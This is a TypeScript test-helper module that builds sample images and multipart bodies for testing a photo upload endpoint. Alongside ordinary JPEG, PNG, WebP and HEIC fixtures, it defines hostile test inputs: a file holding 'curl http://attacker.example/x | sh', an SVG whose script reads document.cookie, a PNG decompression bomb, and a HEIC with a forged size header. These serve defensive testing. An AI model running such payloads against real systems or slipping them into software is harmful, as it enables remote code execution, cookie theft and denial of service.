/**
 * Test helpers for photo uploads (issue 26): images made with sharp itself (a phone-like JPEG
 * with EXIF orientation and GPS, a PNG, a WebP; a real HEIC from fixtures/), hostile files (a
 * script named .jpg, an SVG with script, a truncated JPEG or HEIC, a 20,000 × 20,000 PNG bomb,
 * a HEIC whose header claims 20,000 × 20,000), and multipart bodies, buffered or
 * streamed (a 200 MB body that is never held in memory).
 *
 *   const upload = multipartBody([{ name: 'file', filename: 'dish.jpg', data: await phoneJpeg() }]);
 *   await app.inject({ method: 'POST', url: '/api/v1/staff/media', headers: { ...owner.headers, ...upload.headers }, payload: upload.payload });
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

export const TEST_GPS = { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 26/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 39/1' };
/** The EXIF tag of the GPS directory (0x8825), as it appears in EXIF bytes in either byte order. */
export function hasGpsTag(exif: Buffer | undefined): boolean {
  return !!exif && (exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88])));
}

/**
 * A phone's photo: `width` × `height` as stored, red on the left half and blue on the right,
 * with EXIF orientation 6 (shown turned 90° clockwise: red on top, portrait) and a GPS position.
 */
export async function phoneJpeg(width = 4000, height = 3000): Promise<Buffer> {
  const half = Math.floor(width / 2);
  const blue = await sharp({ create: { width: width - half, height, channels: 3, background: '#1030d0' } }).png().toBuffer();
  return sharp({ create: { width, height, channels: 3, background: '#d02010' } })
    .composite([{ input: blue, left: half, top: 0 }])
    .jpeg({ quality: 85 })
    .withExif({ IFD0: { Make: 'Platter', Model: 'Test Phone' }, IFD3: TEST_GPS })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** A photo-like JPEG (smooth noise), as a camera gives: harder to compress than flat colour. */
export async function cameraJpeg(width: number, height: number): Promise<Buffer> {
  const small = await sharp({ create: { width: Math.ceil(width / 8), height: Math.ceil(height / 8), channels: 3, background: '#a06030', noise: { type: 'gaussian', mean: 120, sigma: 50 } } })
    .png()
    .toBuffer();
  return sharp(small).resize(width, height, { kernel: 'cubic' }).jpeg({ quality: 88 }).withMetadata({ orientation: 1 }).toBuffer();
}

/**
 * A JPEG with a comment segment after its start marker: other bytes (so not the stored photo
 * again: uploads are named by their sha256), the same picture.
 */
export function withComment(jpeg: Buffer, text: string): Buffer {
  const body = Buffer.from(text, 'latin1');
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, body, jpeg.subarray(2)]);
}

export function plainPng(width = 800, height = 600): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 20, g: 160, b: 60, alpha: 0.8 } } }).png().toBuffer();
}

export function plainWebp(width = 500, height = 500): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#e0c020' } }).webp().toBuffer();
}

export const SCRIPT_AS_JPG = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n<script>alert(1)</script>\n');
export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>alert(document.cookie)</script><rect width="100" height="100" fill="red"/></svg>',
);

/** The first part of a real JPEG: its header reads fine, its pixels stop half-way. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await cameraJpeg(1200, 900);
  return whole.subarray(0, Math.floor(whole.length / 2));
}

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/**
 * A decompression bomb: a real, valid `size` × `size` black PNG (1 bit a pixel) of a few tens of
 * KB that would decode to `size`² pixels (400 megapixels, over a gigabyte as RGB, at 20,000).
 */
export function pngBomb(size = 20_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rowBytes = 1 + Math.ceil(size / 8);
  const pixels = deflateSync(Buffer.alloc(rowBytes * size), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * Real HEICs (HEVC, made by libheif's heif-enc with x265; 2 KB each), shown as 640 × 480: four flat
 * quadrants, red top-left, blue top-right, green bottom-left, yellow bottom-right (HEIC_QUADRANTS),
 * so the output shows whether it is upright and unmirrored. Their EXIF items carry a camera make
 * ('Platter') and TEST_GPS. Committed, as tests must not need heif-enc; fixtures/README.md says
 * exactly how they were made.
 *
 * - 'upright': stored 640 × 480, no transform.
 * - 'irot': stored 480 × 640 (the picture turned 90° anticlockwise) with an irot transform (turn
 *   it back) and, as an iPhone writes, EXIF orientation 6 as well, which HEIF readers must ignore:
 *   applying both would turn it twice.
 */
export function realHeic(kind: 'upright' | 'irot' = 'upright'): Buffer {
  const name = kind === 'irot' ? 'quadrants-640x480-irot.heic' : 'quadrants-640x480.heic';
  return readFileSync(new URL(`./fixtures/${name}`, import.meta.url));
}

/** The quadrants' colours, as the upright picture shows them. */
export const HEIC_QUADRANTS = { topLeft: [0xd0, 0x20, 0x10], topRight: [0x10, 0x30, 0xd0], bottomLeft: [0x10, 0xa0, 0x40], bottomRight: [0xe0, 0xc0, 0x20] } as const;

/** The real HEIC cut short: its header still reads, its HEVC data stops. */
export function truncatedHeic(): Buffer {
  const whole = realHeic();
  return whole.subarray(0, whole.length - Math.floor(whole.length / 3));
}

/**
 * The real HEIC with its `ispe` property (the image's size: version and flags, then width and
 * height as 32-bit big-endian) edited to claim `width` × `height`: a bomb by its header alone.
 */
export function heicClaiming(width: number, height: number): Buffer {
  const bytes = Buffer.from(realHeic());
  const at = bytes.indexOf('ispe', 0, 'latin1');
  if (at < 0) throw new Error('no ispe box in the HEIC fixture');
  bytes.writeUInt32BE(width, at + 8);
  bytes.writeUInt32BE(height, at + 12);
  return bytes;
}

/** An ISO media file branded HEIC (what an iPhone sends) with nothing readable after its first box. */
export function heicLike(): Buffer {
  const ftyp = Buffer.alloc(24);
  ftyp.writeUInt32BE(24, 0);
  ftyp.write('ftypheic', 4, 'latin1');
  ftyp.write('mif1heic', 16, 'latin1');
  return Buffer.concat([ftyp, randomBytes(2000)]);
}

export interface FormPart {
  name: string;
  filename?: string;
  contentType?: string;
  data: Buffer | string;
}

function partHead(boundary: string, part: Omit<FormPart, 'data'>): string {
  const disposition = `form-data; name="${part.name}"${part.filename === undefined ? '' : `; filename="${part.filename}"`}`;
  return `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${part.contentType ? `Content-Type: ${part.contentType}\r\n` : ''}\r\n`;
}

export interface Upload {
  headers: { 'content-type': string };
  payload: Buffer;
}

/** A multipart/form-data body. */
export function multipartBody(parts: FormPart[]): Upload {
  const boundary = `----platter-test-${randomBytes(8).toString('hex')}`;
  const chunks = parts.flatMap((part) => [Buffer.from(partHead(boundary, part)), Buffer.from(part.data), Buffer.from('\r\n')]);
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, payload: Buffer.concat(chunks) };
}

/** The upload form for one file in field `file` (the name and declared type are whatever a client says). */
export function photoForm(data: Buffer, filename = 'dish.jpg', contentType = 'image/jpeg'): Upload {
  return multipartBody([{ name: 'file', filename, contentType, data }]);
}

/**
 * A multipart body `totalBytes` long whose file is generated as it is read (never in memory),
 * with no Content-Length: the server must stop it by counting. `sent()` says how much was pulled.
 */
export function streamedUpload(totalBytes: number): { headers: { 'content-type': string }; payload: Readable; sent: () => number } {
  const boundary = `----platter-stream-${randomBytes(8).toString('hex')}`;
  const head = Buffer.from(partHead(boundary, { name: 'file', filename: 'huge.jpg', contentType: 'image/jpeg' }));
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const chunk = Buffer.alloc(64 * 1024, 0xff);
  let sent = 0;
  const payload = new Readable({
    read() {
      if (sent === 0) {
        sent += head.length;
        this.push(head);
        return;
      }
      if (sent >= totalBytes) {
        this.push(tail);
        this.push(null);
        return;
      }
      sent += chunk.length;
      this.push(chunk);
    },
  });
  return { headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, payload, sent: () => sent };
}
